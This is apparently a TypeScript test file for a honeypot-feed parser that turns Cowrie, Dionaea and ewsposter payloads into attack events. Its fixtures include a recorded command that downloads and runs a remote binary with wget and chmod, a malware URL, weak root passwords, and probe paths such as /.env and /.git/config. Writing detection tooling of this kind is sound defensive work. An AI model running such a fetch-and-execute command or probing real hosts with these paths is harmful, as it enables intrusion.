import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import type { AttackEvent } from '../../src/attack-event.js';
import { ewsType, parsePayload, pythonStringList, type PayloadResult } from '../../src/sources/hpfeeds/payloads.js';

const FIXTURES = new URL('../../../shared/fixtures/hpfeeds/', import.meta.url);
const RECEIVED = Date.parse('2026-11-28T12:00:00Z');

function payloads(file: string): Buffer[] {
  return readFileSync(new URL(file, FIXTURES), 'utf8').split('\n').filter((l) => l.trim() !== '').map((l) => Buffer.from(l, 'utf8'));
}

function attacks(results: PayloadResult[]): AttackEvent[] {
  return results.flatMap((r) => ('attacks' in r ? r.attacks : []));
}

describe('HPFEEDS payloads, recognised by content whatever the channel', () => {
  it('cowrie.sessions: one attack per session with failed and successful logins, commands, downloads, client version', () => {
    const results = payloads('cowrie.sessions.jsonl').map((p) => parsePayload(p, RECEIVED));
    assert.ok(results.every((r) => r.format === 'cowrie.sessions'));
    const [first] = attacks(results);
    assert.equal(first?.honeypot, 'Cowrie');
    assert.equal(first?.srcIp, '198.51.100.23');
    assert.equal(first?.time, Date.parse('2024-05-01T10:00:00.123Z'), 'the attack time, not the arrival time');
    assert.deepEqual(first?.credentials, [
      { username: 'root', password: '123456', success: false },
      { username: 'admin', password: 'admin', success: false },
      { username: 'root', password: 'admin123', success: true },
    ]);
    assert.deepEqual(first?.commands, ['uname -a', 'cd /tmp; wget http://198.51.100.77/bins/x86; chmod +x x86; ./x86', 'enable']);
    assert.ok(first?.files?.some((f) => f.url === 'http://198.51.100.77/bins/x86'));
    assert.equal(first?.clientVersion, 'SSH-2.0-libssh_0.9.6');
    assert.equal(first?.destPort, 22);
  });

  it('dionaea.connections: accepted connections are attacks, listen sockets are not', () => {
    const results = payloads('dionaea.connections.jsonl').map((p) => parsePayload(p, RECEIVED));
    const found = attacks(results);
    assert.ok(found.length >= 3);
    assert.ok(found.every((a) => a.honeypot === 'Dionaea' && a.time === RECEIVED), 'no time in the message: arrival time');
    assert.ok(found.some((a) => a.protocol === 'mssqld' && a.destPort === 1433 && a.srcIp === '::ffff:203.0.113.17'));
    assert.ok(results.some((r) => 'skip' in r && r.skip === 'not_an_attack'), 'the listen line');
  });

  it('dionaea.capture and dcerpcrequests: downloads with their MD5, RPC requests', () => {
    const [capture] = attacks(payloads('dionaea.capture.jsonl').map((p) => parsePayload(p, RECEIVED)));
    assert.equal(capture?.srcIp, '198.51.100.5');
    assert.equal(capture?.time, Date.parse('2024-05-01T10:15:42.123Z'));
    assert.deepEqual(capture?.files, [{ url: 'http://198.51.100.77/x.exe', md5: '1ac3b41b4f1619c43f43e2151685418d' }]);
    const [rpc] = attacks(payloads('dionaea.dcerpcrequests.jsonl').map((p) => parsePayload(p, RECEIVED)));
    assert.equal(rpc?.destPort, 445);
    assert.equal(rpc?.protocol, 'dcerpc');
  });

  it('ewsposter JSON alerts: the T-Pot type from the analyzer id, Python list reprs, string ports', () => {
    const found = attacks(payloads('ewsposter.json.jsonl').map((p) => parsePayload(p, RECEIVED)));
    assert.deepEqual(found.map((a) => a.honeypot), ['Cowrie', 'Cowrie', 'Dionaea']);
    const [ssh] = found;
    assert.equal(ssh?.srcIp, '198.51.100.23');
    assert.equal(ssh?.srcPort, 49152);
    assert.equal(ssh?.destPort, 22);
    assert.equal(ssh?.time, Date.parse('2024-05-01T10:00:00Z'));
    assert.deepEqual(ssh?.credentials, [{ username: 'root', password: 'admin123', success: true }]);
    assert.deepEqual(ssh?.commands, ['uname -a', 'cd /tmp; wget http://198.51.100.77/bins/x86; chmod +x x86; ./x86']);
    assert.deepEqual(ssh?.sensorIps, ['192.0.2.10', '172.18.0.1']);
  });

  it('web request paths that ewsposter sends as AdditionalData (url, request_uri, path), after Request[@type=url]', () => {
    // As ewsposter's hpfeedsend publishes them: xmltodict of the <Alert> ealert.py builds.
    const alert = (id: string, description: string, targetPort: string, adata: [string, string][], url?: string) => Buffer.from(JSON.stringify({ Alert: {
      Analyzer: { '@id': id },
      CreateTime: { '@tz': '+0000', '#text': '2025-03-14 05:50:00' },
      Source: { '@category': 'ipv4', '@port': '0', '@protocol': 'tcp', '#text': '198.51.100.91' },
      Target: { '@category': 'ipv4', '@port': targetPort, '@protocol': 'tcp', '#text': '192.0.2.10' },
      Request: url === undefined ? { '@type': 'description', '#text': description } : [{ '@type': 'description', '#text': description }, { '@type': 'url', '#text': url }],
      AdditionalData: [...adata, ['hostname', 'tpot-sensor-01'], ['externalIP', '192.0.2.10']].map(([meaning, text]) => ({ '@type': 'string', '@meaning': meaning, '#text': text })),
    } }));
    const one = (payload: Buffer): AttackEvent => {
      const result = parsePayload(payload, RECEIVED);
      assert.ok('attacks' in result, JSON.stringify(result));
      return result.attacks[0]!;
    };
    // galah.py: adata('url', request.requestURI); gopot.py: adata('url', path); hellpot.py: adata('url', URL)
    assert.deepEqual(one(alert('galah-community-01', 'Galah Honeypot', '8080', [['url', '/cgi-bin/luci/;stok=/locale'], ['useragent', 'curl/8']])).requests, [{ path: '/cgi-bin/luci/;stok=/locale' }]);
    assert.deepEqual(one(alert('gopot-community-01', 'Go-Pot Honeypot', '8080', [['htmlmethod', 'GET'], ['url', '/.git/config']])).requests, [{ path: '/.git/config' }]);
    assert.deepEqual(one(alert('hellpot-community-01', 'Hellpot Honeypot', '80', [['url', '/wp-login.php']])).requests, [{ path: '/wp-login.php' }]);
    // wordpot.py: adata('url', url), a whole URL naming the honeypot: only its path and query.
    assert.deepEqual(one(alert('wordpot-community-01', 'Wordpot Honeypot', '80', [['url', 'http://192.0.2.10/wp-login.php?redirect_to=x']])).requests, [{ path: '/wp-login.php?redirect_to=x' }]);
    // h0neytr4p.py: adata('request_uri', …)
    assert.deepEqual(one(alert('h0neytr4p-community-01', 'H0neytr4p Honeypot', '443', [['request_uri', '/.env']])).requests, [{ path: '/.env' }]);
    // honeyaml.py: adata('path', …); its target port is the Host header's, the honeypot listens on 8080.
    const honeyaml = one(alert('honeyaml-community-01', 'Honeyaml Honeypot', '3000', [['method', 'GET'], ['path', '/api/v1/users']]));
    assert.deepEqual([honeyaml.honeypot, honeyaml.requests, honeyaml.destPort], ['Honeyaml', [{ path: '/api/v1/users' }], 8080]);
    // Request[@type=url] first; values that are neither a path nor a URL are no request.
    assert.deepEqual(one(alert('galah-community-01', 'Galah Honeypot', '8080', [['url', '/second']], '/first')).requests, [{ path: '/first' }]);
    assert.equal(one(alert('galah-community-01', 'Galah Honeypot', '8080', [['url', 'javascript:alert(1)']])).requests, undefined);
    assert.equal(one(alert('galah-community-01', 'Galah Honeypot', '8080', [['url', `/${'a'.repeat(70_000)}`]])).requests, undefined);
  });

  it("ewsposter's CreateTime text is the honeypot's UTC time whatever ewsposter's zone in @tz; Glutton's is in @tz", () => {
    // ealert.py:289 pairs the honeypot's log time (offset dropped, never converted: cowrie.py:80, dionaea.py:33
    // utcfromtimestamp) with @tz = time.strftime('%z') of the ewsposter container; glutton.py:34 alone formats the
    // time itself in that zone (datetime.fromtimestamp).
    const alert = (id: string, description: string, tz: string, text: string) => Buffer.from(JSON.stringify({ Alert: {
      Analyzer: { '@id': id },
      CreateTime: { '@tz': tz, '#text': text },
      Source: { '@category': 'ipv4', '@port': '40000', '@protocol': 'tcp', '#text': '198.51.100.91' },
      Target: { '@category': 'ipv4', '@port': '22', '@protocol': 'tcp', '#text': '192.0.2.10' },
      Request: { '@type': 'description', '#text': description },
    } }));
    const timeOf = (payload: Buffer): number | undefined => {
      const result = parsePayload(payload, RECEIVED);
      assert.ok('attacks' in result, JSON.stringify(result));
      return result.attacks[0]?.time;
    };
    // An ewsposter in Europe/Berlin (+0200) relaying Cowrie's 23:30 UTC: still 23:30 UTC, the same UTC day.
    assert.equal(timeOf(alert('cowrie-community-01', 'SSH Honeypot Cowrie', '+0200', '2025-06-30 23:30:00')), Date.parse('2025-06-30T23:30:00Z'));
    assert.equal(timeOf(alert('dionaea-community-01', 'Dionaea Honeypot', '-0500', '2025-06-30 01:15:00')), Date.parse('2025-06-30T01:15:00Z'));
    // T-Pot's own setup (every container in UTC): unchanged.
    assert.equal(timeOf(alert('cowrie-community-01', 'SSH Honeypot Cowrie', '+0000', '2025-06-30 23:30:00')), Date.parse('2025-06-30T23:30:00Z'));
    // Glutton: ewsposter's local time, as its @tz says.
    assert.equal(timeOf(alert('glutton', 'Glutton Honeypot', '+0200', '2025-07-01 01:30:00')), Date.parse('2025-06-30T23:30:00Z'));
  });

  it('maps ewsposter descriptions to T-Pot types', () => {
    assert.equal(ewsType(undefined, 'SSH Honeypot Cowrie'), 'Cowrie');
    assert.equal(ewsType(undefined, 'ADBHoney Honeypot'), 'Adbhoney');
    assert.equal(ewsType(undefined, 'NetworkHoneypot Honeytrap v1.1'), 'Honeytrap');
    assert.equal(ewsType('conpot-community-01', 'Conpot Honeypot'), 'ConPot');
    assert.equal(ewsType('something-else', 'Unheard-of Honeypot'), undefined);
  });

  it('parses Python list reprs, quotes and escapes included', () => {
    assert.deepEqual(pythonStringList("['uname -a', 'w']"), ['uname -a', 'w']);
    assert.deepEqual(pythonStringList(`["it's", 'a\\'b', 'tab\\there']`), ["it's", "a'b", 'tab\there']);
    assert.deepEqual(pythonStringList('plain command'), ['plain command']);
    assert.deepEqual(pythonStringList('[]'), []);
  });

  it('binary, XML, non-JSON and unknown payloads are skipped with a reason, never thrown', () => {
    assert.deepEqual(parsePayload(Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0xff]), RECEIVED), { format: 'unknown', skip: 'malformed' });
    assert.equal((parsePayload(Buffer.from('<Alert><Analyzer id="x"/></Alert>'), RECEIVED) as { skip: string }).skip, 'unknown_type');
    assert.equal((parsePayload(Buffer.from('{"truncated": '), RECEIVED) as { skip: string }).skip, 'malformed');
    assert.equal((parsePayload(Buffer.from('{"hello":"world"}'), RECEIVED) as { skip: string }).skip, 'unknown_type');
    assert.equal((parsePayload(Buffer.from('{"session":"x","peerIP":{"a":1}}'), RECEIVED) as { skip: string }).skip, 'no_src_ip');
    const hostile = parsePayload(Buffer.from(JSON.stringify({ session: 's', peerIP: '198.51.100.1', commands: ['\u001b[31m<script>', 42, null], credentials: [[{}, 'x'], 'junk'] })), RECEIVED);
    assert.ok('attacks' in hostile);
    assert.deepEqual(hostile.attacks[0]?.commands, ['\u001b[31m<script>']);
  });

  it('an attack time outside 1995–2200 (a broken clock or hostile input) gives way to the arrival time', () => {
    for (const startTime of ['0001-01-01T00:00:00Z', '9999-12-31T23:59:59Z', '1970-01-01T00:00:00Z']) {
      const result = parsePayload(Buffer.from(JSON.stringify({ session: 's', peerIP: '198.51.100.1', startTime })), RECEIVED);
      assert.ok('attacks' in result);
      assert.equal(result.attacks[0]?.time, RECEIVED, startTime);
    }
  });
});
